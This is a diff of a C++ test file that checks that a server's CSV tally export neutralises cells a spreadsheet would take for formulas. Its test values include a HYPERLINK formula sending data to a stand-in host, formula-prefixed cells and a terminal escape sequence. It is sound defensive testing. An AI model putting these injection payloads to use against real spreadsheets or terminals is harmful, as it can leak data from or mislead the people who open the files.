@@ -472,8 +472,9 @@ TEST_CASE("CSV of a tally with a column field", "[server][tally]") {
   CHECK(f.csv("pats-individual-by-site", 2026) == "site,persons\ntotal,0\n");
 }
 
-TEST_CASE("CSV: a text cell a spreadsheet would take for a formula is neutralised; numbers are not",
-          "[server][tally][csv]") {
+TEST_CASE(
+    "CSV: a text cell a spreadsheet would take for a formula is neutralised, and numbers are not",
+    "[server][tally][csv]") {
   tally_fixture f;
   int persons = 0;
   const auto with_nationality = [&](const std::string& nationality) {
@@ -493,13 +494,13 @@ TEST_CASE("CSV: a text cell a spreadsheet would take for a formula is neutralise
   f.put_fields("g", "assistance_case", with_nationality("\x1b]0;pwned\x07"));
   const std::string csv = f.csv("assisted-by-nationality-sex", 2026);
   INFO(csv);
-  CHECK_THAT(csv,
-             Contains(",\"'=HYPERLINK(\"\"http://x.example/?leak\"\",\"\"Click\"\")\",1,0,1\n"));
-  CHECK_THAT(csv, Contains(",\"'+1\",1,0,1\n"));
-  CHECK_THAT(csv, Contains(",\"'@SUM(A1)\",1,0,1\n"));
-  CHECK_THAT(csv, Contains(",\"'-2+3\",1,0,1\n"));
-  CHECK_THAT(csv, Contains(",\"'\\x09x\",1,0,1\n"));
-  CHECK_THAT(csv, Contains(",\\x1b]0;pwned\\x07,1,0,1\n"));
+  CHECK_THAT(
+      csv, Contains(",\"'=HYPERLINK(\"\"http:%2F%2Fx.example%2F?leak\"\",\"\"Click\"\")\",1,1\n"));
+  CHECK_THAT(csv, Contains(",\"'+1\",1,1\n"));
+  CHECK_THAT(csv, Contains(",\"'@SUM(A1)\",1,1\n"));
+  CHECK_THAT(csv, Contains(",\"'-2+3\",1,1\n"));
+  CHECK_THAT(csv, Contains(",\"'\\x09x\",1,1\n"));
+  CHECK_THAT(csv, Contains(",\\x1b]0;pwned\\x07,1,1\n"));
   CHECK(csv.find('\x1b') == std::string::npos);
   CHECK(csv.find('\t') == std::string::npos);
   for (const char* raw : {",=", ",+", ",@", ",-", ",\"=", ",\"+", ",\"@", ",\"-"}) {
@@ -507,8 +508,8 @@ TEST_CASE("CSV: a text cell a spreadsheet would take for a formula is neutralise
     CHECK(csv.find(raw) == std::string::npos);
   }
   // Numbers are numbers, never quoted: the totals are written as they are.
-  CHECK_THAT(csv, Contains("\ncrisis-accommodation,,6,0,6\n"));
-  CHECK_THAT(csv, Contains("\ntotal,,6,0,6\n"));
+  CHECK_THAT(csv, Contains("\ncrisis-accommodation,,6,6\n"));
+  CHECK_THAT(csv, Contains("\ntotal,,6,6\n"));
 }
 
 TEST_CASE("reports: shape, list, unknown ids and bad periods", "[server][tally]") {
